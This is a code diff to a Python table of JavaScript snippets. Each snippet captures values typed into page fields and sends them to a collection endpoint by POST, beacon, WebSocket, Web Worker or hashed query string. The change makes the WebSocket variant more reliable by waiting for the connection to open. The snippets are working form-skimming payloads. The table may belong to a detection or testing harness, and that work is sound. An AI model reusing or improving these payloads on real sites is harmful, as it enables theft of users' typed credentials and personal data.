@@ -40,7 +40,9 @@ _SCRIPTS = {
         fetch(at, {method: 'POST', body: await new Response(packed).arrayBuffer()});
     });""",
     "base64-beacon": "typed((v) => navigator.sendBeacon(at, btoa(JSON.stringify({m: v}))));",
-    "socket": "const line = new WebSocket(at.replace('https', 'wss')); typed((v) => line.send('field ' + v));",
+    "socket": """const line = new WebSocket(at.replace('https', 'wss'));
+        const opened = new Promise((go) => line.addEventListener('open', go));
+        typed(async (v) => { await opened; line.send('field ' + v); });""",
     "worker": """const source = `onmessage = (e) => fetch('${at}', {method: 'POST', body: e.data})`;
         const worker = new Worker(URL.createObjectURL(new Blob([source]))); typed((v) => worker.postMessage(v));""",
     "hashed": "typed(async (v) => fetch(at + '?em=' + hex(await crypto.subtle.digest('SHA-256', bytes(v)))));",
